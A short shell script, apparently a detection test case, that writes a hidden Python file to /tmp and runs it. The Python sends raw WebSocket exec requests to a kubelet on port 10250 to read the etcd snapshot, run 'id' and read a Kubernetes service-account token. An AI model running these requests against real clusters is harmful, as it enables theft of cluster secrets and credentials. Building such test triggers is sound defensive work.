#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.ws.py <<'END'
import base64, os, socket
for pod, c in (("kube-system/etcd-node-1/etcd", "cat&command=/var/lib/etcd/member/snap/db"), ("default/web-0/web", "sh&command=-c&command=id"), ("kube-system/kube-proxy/kube-proxy", "sh&command=-c&command=cat+/run/secrets/kubernetes.io/serviceaccount/token")):
    s = socket.create_connection(("10.77.0.1", 10250), 4)
    s.sendall((f"GET /exec/{pod}?command={c}&input=1&output=1&tty=0 HTTP/1.1\r\nHost: node-1:10250\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: v4.channel.k8s.io\r\nSec-WebSocket-Key: {base64.b64encode(os.urandom(16)).decode()}\r\n\r\n").encode())
    assert s.recv(200).startswith(b"HTTP/"); s.close()
END
python3 /tmp/.ws.py
took_place
